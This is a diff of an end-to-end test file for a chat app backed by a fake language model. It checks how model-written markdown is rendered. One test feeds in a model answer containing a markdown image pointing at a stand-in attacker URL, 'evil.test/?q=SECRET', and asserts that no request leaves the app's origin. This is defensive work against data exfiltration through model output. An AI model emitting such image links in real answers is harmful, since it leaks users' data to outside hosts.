@@ -1,5 +1,6 @@
-import { beforeEach, describe, expect, it } from '@jest/globals';
+import { describe, expect, it } from '@jest/globals';
 import type { Page } from 'playwright-core';
+import { expectCopied } from '../support/anyPage.ts';
 import { useApp } from '../support/browser.ts';
 import { aChatter, box, button, messages, openHistory, reply, say, settled, thread } from '../support/chatPage.ts';
 import { aConversation } from '../support/conversations.ts';
@@ -9,8 +10,6 @@ import { hostileTexts } from '../support/hostileTexts.ts';
 
 const llm = await fakeLlm();
 const app = useApp({ ai: llm.settings(['openai']) });
-
-beforeEach(() => llm.reset());
 
 /** Every request that leaves our origin, from now on. */
 function foreignRequests(page: Page) {
@@ -54,6 +53,7 @@ describe('what a model writes', () => {
     llm.next(answersWith('![a chart](https://evil.test/?q=SECRET)'));
     await say(page, 'Show me');
     expect(await reply(page).getByRole('link', { name: 'a chart' }).getAttribute('href')).toBe('https://evil.test/?q=SECRET');
+    await settled(page);
     expect(foreign).toEqual([]);
   });
 
@@ -77,7 +77,7 @@ describe('what a model writes', () => {
     expect(await keyword.evaluate((word) => getComputedStyle(word).fontFamily)).toContain('JetBrains Mono');
     await reply(page).getByRole('cell', { name: '2' }).waitFor();
     await button(page, 'Copy code').click();
-    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const answer = 42;');
+    await expectCopied(page, 'const answer = 42;');
   });
 });
 
